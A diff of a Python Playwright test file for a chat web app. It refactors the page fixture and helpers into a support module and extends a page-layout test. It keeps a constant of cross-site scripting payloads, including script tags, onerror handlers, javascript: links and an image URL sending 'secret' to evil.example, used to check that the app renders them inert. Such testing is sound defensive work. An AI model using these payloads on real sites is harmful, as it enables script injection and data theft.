@@ -3,62 +3,21 @@
 from __future__ import annotations
 
 import re
-import shutil
-from collections.abc import AsyncIterator
 from typing import Any
 
 import pytest
-from playwright.async_api import Locator, Page, Request, async_playwright, expect
+from playwright.async_api import Page, expect
 
+from tests.support.browser import ask, talk
 from tests.support.scripted_ollama import Call, Hang, Say, ScriptedOllama, Think, Wait
 from tests.support.stack import Stack
 
 pytestmark = [pytest.mark.stack, pytest.mark.browser]
-expect.set_options(timeout=30_000)
-"""Milliseconds: nothing that is waited for takes so long, however busy the machine is."""
-OUTAGE = re.compile(r"net::ERR_(CONNECTION|EMPTY_RESPONSE|SOCKET)|WebSocket connection to")
-QUIET = ["--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run", "--disable-background-networking"]
 HOSTILE = (
     '<img src=x onerror="window.owned=1"> <script>window.owned=1</script> '
     "[a](javascript:window.owned=1) ![p](https://evil.example/p.png?q=secret) "
     '<iframe srcdoc="<script>parent.owned=1</script>"></iframe>'
 )
-
-
-@pytest.fixture
-async def page(stack: Stack, request: pytest.FixtureRequest) -> AsyncIterator[Page]:
-    """A page of the running app; it fails the test on any error in the console and on any request that leaves.
-
-    Chromium writes each connection that breaks into the console: a test that takes the server away is marked `outage`.
-    """
-    async with async_playwright() as playwright:
-        browser = await playwright.chromium.launch(executable_path=shutil.which("chromium"), args=QUIET)
-        page = await (await browser.new_context()).new_page()
-        complaints: list[str] = []
-        page.on("pageerror", lambda error: complaints.append(str(error)))
-        page.on("console", lambda message: complaints.append(message.text) if message.type == "error" else None)
-
-        def left(sent: Request) -> None:
-            if not sent.url.startswith((stack.url, stack.url.replace("http", "ws"), "data:", "blob:")):
-                complaints.append(sent.url)
-
-        page.on("request", left)
-        await page.goto(stack.url)
-        yield page
-        await browser.close()
-    outage = request.node.get_closest_marker("outage") is not None
-    assert [c for c in complaints if not (outage and OUTAGE.search(c))] == []
-
-
-def talk(page: Page) -> Locator:
-    """The conversation as it is seen: screen readers get the finished answer once more elsewhere."""
-    return page.get_by_role("region", name="Conversation")
-
-
-async def ask(page: Page, text: str) -> None:
-    """Type a question and send it."""
-    await page.get_by_label("Your question").fill(text)
-    await page.keyboard.press("Enter")
 
 
 async def test_answer_streams_with_thinking_and_tool(page: Page, stack: Stack, model: ScriptedOllama) -> None:
@@ -202,7 +161,7 @@ async def test_pages_fit(page: Page, stack: Stack, model: ScriptedOllama, size: 
     await page.emulate_media(color_scheme=theme)
     await ask(page, "hi " * 30)
     await expect(talk(page).get_by_text("You said").first).to_be_visible()
-    for path in ("", "/status", "/settings"):
+    for path in ("", "/status", "/memory", "/settings"):
         await page.goto(f"{stack.url}{path}")
         await expect(page.locator("main")).to_be_visible()
         wide = await page.evaluate("document.documentElement.scrollWidth - document.documentElement.clientWidth")
